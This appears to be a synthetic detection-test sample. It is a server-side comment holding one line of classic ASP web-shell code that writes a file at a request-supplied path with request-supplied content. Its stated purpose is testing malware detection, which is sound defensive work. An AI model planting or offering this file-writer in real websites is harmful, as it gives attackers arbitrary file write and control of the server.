<%-- EXTRIAGE SYNTHETIC SAMPLE - inert, for detection testing only. Server code below is inside a server-side comment.
<% Set fs = Server.CreateObject("Scripting.FileSystemObject") : Set f = fs.CreateTextFile(Request("p"), True) : f.Write Request("c") : f.Close %>
--%>
